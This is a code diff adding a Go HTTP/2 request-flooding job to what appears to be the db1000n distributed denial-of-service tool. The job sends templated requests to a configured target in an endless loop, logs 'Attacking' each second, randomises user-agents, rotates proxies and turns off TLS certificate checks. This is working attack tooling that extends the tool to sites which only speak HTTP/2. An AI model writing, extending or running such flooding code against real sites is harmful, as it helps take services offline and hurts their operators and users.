@@ -0,0 +1,210 @@
+package jobs
+
+import (
+	"context"
+	"crypto/tls"
+	"encoding/json"
+	"fmt"
+	"io"
+	"log"
+	"net/http"
+	"net/url"
+	"strings"
+	"time"
+
+	"github.com/corpix/uarand"
+	"github.com/google/uuid"
+	"github.com/mitchellh/mapstructure"
+	"golang.org/x/net/http2"
+
+	"github.com/Arriven/db1000n/src/metrics"
+	"github.com/Arriven/db1000n/src/utils"
+	"github.com/Arriven/db1000n/src/utils/templates"
+)
+
+// http2Job is a sibling of fasthttpJob for origins that only (or preferentially) speak
+// HTTP/2 - fasthttp.Client is HTTP/1.1-only, so it can't reach them. It shares the same
+// request template pipeline, proxy config parsing and metrics wiring as fasthttpJob, just
+// built on net/http + golang.org/x/net/http2 instead of fasthttp.
+func http2Job(ctx context.Context, args Args, debug bool) error {
+	defer utils.PanicHandler()
+
+	var jobConfig struct {
+		BasicJobConfig
+
+		Path    string
+		Method  string
+		Body    string
+		Headers map[string]string
+		Client  map[string]interface{} // See newHTTP2Client
+	}
+	if err := mapstructure.Decode(args, &jobConfig); err != nil {
+		log.Printf("Error parsing job config: %v", err)
+		return err
+	}
+
+	client, err := newHTTP2Client(jobConfig.Client, debug)
+	if err != nil {
+		return err
+	}
+
+	methodTpl, pathTpl, bodyTpl, headerTpls, err := parseHTTPRequestTemplates(
+		jobConfig.Method, jobConfig.Path, jobConfig.Body, jobConfig.Headers)
+	if err != nil {
+		return err
+	}
+
+	trafficMonitor := metrics.Default.NewWriter(ctx, "traffic", uuid.New().String())
+	ticker := time.NewTicker(time.Second)
+	defer ticker.Stop()
+
+	for jobConfig.Next(ctx) {
+		method, path, body := templates.Execute(methodTpl, nil), templates.Execute(pathTpl, nil), templates.Execute(bodyTpl, nil)
+		dataSize := len(method) + len(path) + len(body) // Rough uploaded data size for reporting
+
+		select {
+		case <-ticker.C:
+			log.Printf("Attacking %v", jobConfig.Path)
+		default:
+		}
+
+		req, err := http.NewRequestWithContext(ctx, method, path, strings.NewReader(body))
+		if err != nil {
+			if debug {
+				log.Printf("Error building request: %v", err)
+			}
+
+			time.Sleep(time.Duration(jobConfig.IntervalMs) * time.Millisecond)
+
+			continue
+		}
+
+		req.Header.Set("user-agent", uarand.GetRandom())
+
+		for keyTpl, valueTpl := range headerTpls {
+			key, value := templates.Execute(keyTpl, nil), templates.Execute(valueTpl, nil)
+			req.Header.Set(key, value)
+			dataSize += len(key) + len(value)
+		}
+
+		sendHTTP2Request(client, req, debug)
+
+		trafficMonitor.Add(dataSize)
+
+		time.Sleep(time.Duration(jobConfig.IntervalMs) * time.Millisecond)
+	}
+
+	return nil
+}
+
+func sendHTTP2Request(client *http.Client, req *http.Request, debug bool) {
+	if debug {
+		log.Printf("%s %s started at %d", req.Method, req.URL, time.Now().Unix())
+	}
+
+	resp, err := client.Do(req)
+	if err != nil {
+		metrics.IncHTTP(req.Host, req.Method, metrics.StatusFail)
+
+		if debug {
+			log.Printf("Error sending request %v: %v", req, err)
+		}
+
+		return
+	}
+	defer resp.Body.Close()
+
+	// Drain the body so the underlying connection/stream can be reused for the next request.
+	_, _ = io.Copy(io.Discard, resp.Body)
+
+	metrics.IncHTTP(req.Host, req.Method, metrics.StatusSuccess)
+}
+
+// newHTTP2Client builds an *http.Client configured per client.http_version:
+//   - "2": offer only h2 in TLS ALPN and configure the transport for HTTP/2; cleartext
+//     "http://" URLs still go out as HTTP/1.1, since net/http has no h2c support
+//   - "1.1": plain HTTP/1.1, ALPN restricted accordingly
+//   - "auto" (default): let ALPN negotiate, preferring h2
+func newHTTP2Client(clientCfg map[string]interface{}, debug bool) (*http.Client, error) {
+	var clientConfig struct {
+		Timeout     *time.Duration `mapstructure:"timeout"`
+		ProxyURLs   string         `mapstructure:"proxy_urls"`
+		HTTPVersion string         `mapstructure:"http_version"`
+	}
+
+	if err := mapstructure.Decode(clientCfg, &clientConfig); err != nil && debug {
+		log.Printf("Failed to parse job client, ignoring: %v", err)
+	}
+
+	timeout := 90 * time.Second
+	if clientConfig.Timeout != nil {
+		timeout = *clientConfig.Timeout
+	}
+
+	httpVersion := clientConfig.HTTPVersion
+	if httpVersion == "" {
+		httpVersion = "auto"
+	}
+
+	tlsConfig := &tls.Config{InsecureSkipVerify: true} //nolint:gosec // targets commonly run self-signed certs
+
+	switch httpVersion {
+	case "2":
+		tlsConfig.NextProtos = []string{"h2"}
+	case "1.1":
+		tlsConfig.NextProtos = []string{"http/1.1"}
+	case "auto":
+		tlsConfig.NextProtos = []string{"h2", "http/1.1"}
+	default:
+		return nil, fmt.Errorf("unsupported client.http_version %q, want auto|1.1|2", httpVersion)
+	}
+
+	transport := &http.Transport{
+		TLSClientConfig:   tlsConfig,
+		ForceAttemptHTTP2: httpVersion != "1.1",
+		Proxy:             httpProxyFunc(clientConfig.ProxyURLs, debug),
+	}
+
+	if httpVersion == "2" {
+		if err := http2.ConfigureTransport(transport); err != nil {
+			return nil, fmt.Errorf("error configuring http2 transport: %w", err)
+		}
+	}
+
+	if debug {
+		log.Printf("http2Job client config: http_version=%s timeout=%s", httpVersion, timeout)
+	}
+
+	return &http.Client{Transport: transport, Timeout: timeout}, nil
+}
+
+// httpProxyFunc adapts the same proxy_urls list/pool used by fasthttpJob to net/http's
+// per-request proxy hook. Picked URLs are handed to net/http unchanged, so the scheme is
+// handled by net/http's own proxy support (http, https, socks5); unlike the fasthttp dialer
+// in proxy.go, results are not recorded against the pool, so no proxy is ever ejected here.
+func httpProxyFunc(rawProxyURLsTemplate string, debug bool) func(*http.Request) (*url.URL, error) {
+	proxyList := []byte(templates.ParseAndExecute(rawProxyURLsTemplate, nil))
+	if len(proxyList) == 0 {
+		return nil
+	}
+
+	var rawProxyURLs []string
+	if err := json.Unmarshal(proxyList, &rawProxyURLs); err != nil {
+		if debug {
+			log.Printf("Failed to parse proxies: %v", err)
+		}
+
+		return nil
+	}
+
+	pool := newProxyPool(resolveProxyURLs(rawProxyURLs))
+
+	return func(*http.Request) (*url.URL, error) {
+		entry := pool.pick()
+		if entry == nil {
+			return nil, nil
+		}
+
+		return entry.url, nil
+	}
+}